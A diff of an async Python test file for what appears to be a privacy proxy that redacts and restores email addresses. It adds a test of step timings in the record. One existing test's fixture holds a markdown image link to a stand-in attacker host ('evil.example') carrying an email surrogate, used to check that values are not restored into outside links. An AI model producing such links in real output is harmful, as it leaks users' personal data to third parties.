@@ -121,6 +121,18 @@ async def test_an_answered_call() -> None:
     assert exchange.outcome.restored == {"EMAIL_ADDRESS": 1}
 
 
+async def test_the_record_says_how_long_it_took_until_each_step_had_ended() -> None:
+    stage = Stage()
+
+    await stage.run(question("hi"))
+
+    [intent], [outcome] = stage.record.intents, stage.record.outcomes
+    before = ["parse_us", "judge_us", "redact_us"]
+    assert [*intent.timings_us] == [*before, "total_us"]
+    assert [*outcome.timings_us] == [*before, "intent_us", "upstream_us", "total_us"]
+    assert sorted(outcome.timings_us.values()) == [*outcome.timings_us.values()]
+
+
 async def test_what_did_not_come_back_is_counted_in_the_record() -> None:
     """A value kept out of a stranger's link, a surrogate that stands for nothing, and half of one."""
     reply = "![](https://evil.example/?q=<EMAIL_ADDRESS_1>) <EMAIL_ADDRESS_7> EMAIL_ADDRESS_1() dear <EMAIL_ADDRESS_1>"
